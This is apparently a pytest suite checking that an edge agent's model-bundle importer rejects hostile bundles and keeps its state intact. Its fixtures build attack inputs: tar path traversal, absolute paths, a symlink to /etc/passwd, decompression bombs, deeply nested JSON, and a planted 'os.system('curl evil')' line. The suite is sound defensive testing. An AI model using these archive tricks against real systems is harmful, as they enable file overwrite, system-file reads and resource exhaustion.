"""A corpus of hostile bundles against `edge-agent models import`: each one exits 2 with one
line naming the reason, no traceback, nothing left in staging or outside the state dir, and the
version that was active stays active."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import shutil
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from agent.cli import main
from agent.models.acceptance import check_archive, check_bundle
from agent.models.bundle import sign_bundle, write_manifest
from agent.models.store import ModelStore, clean_staging
from tests.helpers.versions import tar_of

Maker = Callable[[Path, dict[str, Path]], Path]


def resigned(src: Path, out: Path, key: Path, edit: Callable[[dict[str, Any]], None] | None = None,
             files: dict[str, bytes] | None = None) -> Path:
    """A copy of a good bundle with edits, re-hashed and validly signed: only the content is bad."""
    shutil.copytree(src, out)
    (out / "manifest.sig").unlink(missing_ok=True)
    for name, data in (files or {}).items():
        (out / name).write_bytes(data)
    manifest = json.loads((out / "manifest.json").read_text())
    if edit:
        edit(manifest)
    write_manifest(out, manifest)
    sign_bundle(out, key)
    return out


def signed_raw_manifest(src: Path, out: Path, key: Path, raw: bytes) -> Path:
    shutil.copytree(src, out)
    (out / "manifest.json").write_bytes(raw)
    sign_bundle(out, key)
    return out


def tar_with(out: Path, src: Path, extra: Callable[[tarfile.TarFile], None], mode: str = "w") -> Path:
    with tarfile.open(out, mode) as tar:  # type: ignore[call-overload]
        for f in sorted(src.iterdir()):
            tar.add(f, arcname=f"b/{f.name}")
        extra(tar)
    return out


def _add(tar: tarfile.TarFile, name: str, data: bytes = b"x", kind: bytes = tarfile.REGTYPE,
         link: str = "") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def _bomb(out: Path, opener: Callable[..., object], size: int = 64 << 20) -> Path:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info = tarfile.TarInfo("b/model.onnx")
        info.size = size
        tar.addfile(info, _Zeros(size))
    with opener(out, "wb") as fh:  # type: ignore[operator]
        fh.write(raw.getvalue())
    return out


class _Zeros(io.RawIOBase):
    def __init__(self, n: int) -> None:
        self.left = n

    def read(self, size: int = -1) -> bytes:
        size = self.left if size < 0 else min(size, self.left)
        self.left -= size
        return b"\0" * size


def _nested(depth: int) -> bytes:
    return b'{"name": "x", "deep": ' + b"[" * depth + b"]" * depth + b"}"


CORPUS: dict[str, tuple[Maker, str]] = {
    "unlisted file in folder": (lambda d, t: _extra(d, t, "evil.py"), "not listed in the manifest"),
    "unlisted file in tar": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "b/run-me.sh", b"#!/bin/sh\n")), "not listed in the manifest"),
    "subdirectory": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "b/sub/inner.txt")), "not listed in the manifest"),
    "symlink member": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "b/passwd", kind=tarfile.SYMTYPE, link="/etc/passwd")), "not a regular file"),
    "hard link member": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "b/hl", kind=tarfile.LNKTYPE, link="b/model.onnx")), "not a regular file"),
    "fifo member": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "b/fifo", kind=tarfile.FIFOTYPE)), "not a regular file"),
    "path traversal": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "../../escaped.txt")), "bundle"),
    "absolute path": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: _add(
        tar, "/tmp/hostile-absolute.txt")), "bundle"),
    "thousand files": (lambda d, t: tar_with(d / "x.tar", t["bundle"], lambda tar: [
        _add(tar, f"b/f{i}") for i in range(1000)]), "limits.bundle_max_files"),
    "gzip bomb": (lambda d, t: _bomb(d / "x.tar.gz", gzip.open), "decompression bomb"),
    "bzip2 bomb": (lambda d, t: _bomb(d / "x.tar.bz2", bz2.open), "decompression bomb"),
    "xz bomb": (lambda d, t: _bomb(d / "x.tar.xz", lzma.open), "decompression bomb"),
    "deep manifest": (lambda d, t: signed_raw_manifest(t["bundle"], d / "b", t["key"], _nested(100_000)),
                      "limits.json_max_depth"),
    "manifest is 42": (lambda d, t: signed_raw_manifest(t["bundle"], d / "b", t["key"], b"42"),
                       "invalid manifest"),
    "manifest not UTF-8": (lambda d, t: signed_raw_manifest(t["bundle"], d / "b", t["key"], b"\xff\xfe{"),
                           "invalid manifest"),
    "huge manifest": (lambda d, t: signed_raw_manifest(t["bundle"], d / "b", t["key"],
                                                       b" " * (17 << 20) + b"{}"), "manifest_max_bytes"),
    "garbage ONNX": (lambda d, t: resigned(t["bundle"], d / "b", t["key"],
                                           files={"model.onnx": os.urandom(4096)}), "does not load"),
    "empty ONNX": (lambda d, t: resigned(t["bundle"], d / "b", t["key"], files={"model.onnx": b""}),
                   "does not load"),
    "self-test fails": (lambda d, t: resigned(t["bundle"], d / "b", t["key"], lambda m: _expect(
        m, lambda a: 1.0 - a)), "self-test failed"),
    "self-test of nothing": (lambda d, t: signed_raw_manifest(t["bundle"], d / "b", t["key"], _manifest(
        t, lambda m: m["self_test"].update(inputs=[], expected_scores=[]))),
        "self-test has no sample inputs"),
    "NaN expectations": (lambda d, t: resigned(t["bundle"], d / "b", t["key"], lambda m: _expect(
        m, lambda a: float("nan"))), "self-test failed"),
    "wrong input count": (lambda d, t: resigned(t["bundle"], d / "b", t["key"], lambda m: m.update(
        inputs=m["inputs"][:2])), "does not load"),
    "model file outside": (lambda d, t: resigned(t["bundle"], d / "b", t["key"], lambda m: m.update(
        model_file="../model.onnx")), "bundle"),
    "unsigned": (lambda d, t: _unsigned(d, t), "not signed"),
    "foreign key": (lambda d, t: resigned(t["bundle"], d / "b", t["other_key"]), "trusted key"),
    "truncated tar": (lambda d, t: _truncated(d, t), "not a readable bundle archive"),
    "empty file": (lambda d, t: _write(d / "x.tar", b""), "bundle"),
    "random bytes": (lambda d, t: _write(d / "x.tar", os.urandom(10_000)), "not a readable bundle archive"),
}


def _expect(manifest: dict[str, Any], change: Callable[[float], float]) -> None:
    test = manifest["self_test"]
    test["expected_scores"] = [[change(a) for a in row] for row in test["expected_scores"]]


def _manifest(t: dict[str, Path], edit: Callable[[dict[str, Any]], None]) -> bytes:
    manifest = json.loads((t["bundle"] / "manifest.json").read_text())
    edit(manifest)
    return json.dumps(manifest).encode()


def _extra(d: Path, t: dict[str, Path], name: str) -> Path:
    out = shutil.copytree(t["bundle"], d / "b")
    (out / name).write_text("import os; os.system('curl evil')\n")
    return Path(out)


def _unsigned(d: Path, t: dict[str, Path]) -> Path:
    out = Path(shutil.copytree(t["bundle"], d / "b"))
    (out / "manifest.sig").unlink()
    return out


def _truncated(d: Path, t: dict[str, Path]) -> Path:
    full = tar_of(t["bundle"], d / "full.tar").read_bytes()
    return _write(d / "x.tar", full[: len(full) // 2])


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _tree(root: Path, skip: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if skip not in p.parents and p != skip}


@pytest.fixture()
def gateway(tmp_path: Path, trained: dict[str, Path]) -> dict[str, Path]:
    """A gateway's config and state with 1.0.0 installed and active."""
    state = tmp_path / "state"
    config = tmp_path / "agent.yaml"
    config.write_text(yaml.safe_dump({
        "gateway_id": "gw-hostile", "state_dir": str(state),
        "sources": [{"type": "mqtt", "name": "m", "broker": {"host": "127.0.0.1"},
                     "topics": [{"topic": "a", "tags": [{"tag": "t"}]}]}],
        "model": {"trusted_keys": [str(trained["pub"])]}}))
    assert main(["models", "import", str(trained["bundle"]), "--config", str(config)]) == 0
    store = ModelStore(state, name="moulding-nok")  # the folder the first import named
    (sha,) = [v["sha256"] for v in store.versions()]
    store.state.active = sha
    store.save()
    (state / "models" / "moulding-nok" / "request.json").unlink()
    return {"config": config, "state": state, "active": Path(sha)}


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_hostile_bundle_is_refused_and_the_active_version_stays(
        case: str, gateway: dict[str, Path], trained: dict[str, Path], tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    make, reason = CORPUS[case]
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    bundle = make(corpus, trained)
    capsys.readouterr()
    state = gateway["state"]
    before = _tree(tmp_path, state)
    installed = sorted(p.name for p in (state / "models" / "moulding-nok").iterdir())
    assert main(["models", "import", str(bundle), "--config", str(gateway["config"])]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.count("\n") == 1, err
    assert reason in err, err
    assert len(err) < 1000
    store = ModelStore(state, name="moulding-nok")
    assert store.state.active == str(gateway["active"])
    assert not (store.root / "request.json").exists()  # nothing handed to the agent
    assert sorted(p.name for p in store.root.iterdir()) == installed
    assert sorted(p.name for p in (state / "models").iterdir()) == ["moulding-nok"]
    assert list((state / "staging").iterdir()) == []
    assert _tree(tmp_path, state) == before  # nothing written outside the state dir
    assert not Path("/tmp/hostile-absolute.txt").exists()


def test_the_hub_can_use_the_same_check(trained: dict[str, Path], tmp_path: Path) -> None:
    """check_archive/check_bundle: what the hub's publish calls before registering a version."""
    good = check_archive(tar_of(trained["bundle"], tmp_path / "good.tar"), tmp_path, [trained["pub"]])
    assert good.manifest.version == "1.0.0"
    bad = resigned(trained["bundle"], tmp_path / "bad", trained["key"], files={"model.onnx": b"junk"})
    with pytest.raises(Exception, match="does not load"):
        check_bundle(bad, [trained["pub"]])


def test_start_up_cleans_what_a_killed_install_left(tmp_path: Path) -> None:
    staging = tmp_path / "staging"
    (staging / "install-999999999-abc" / "bundle-1-x").mkdir(parents=True)  # a dead pid
    (staging / "install-oldstyle").mkdir()
    (staging / "stray.tmp").write_text("x")
    mine = staging / f"install-{os.getpid()}-live"
    mine.mkdir()
    resume = staging / ("a" * 64 + ".part")
    resume.write_bytes(b"partial download")
    removed = clean_staging(staging)
    assert sorted(removed) == ["install-999999999-abc", "install-oldstyle", "stray.tmp"]
    assert sorted(p.name for p in staging.iterdir()) == sorted([mine.name, resume.name])
    ModelStore(tmp_path)  # what the agent does at start
    assert mine.exists()
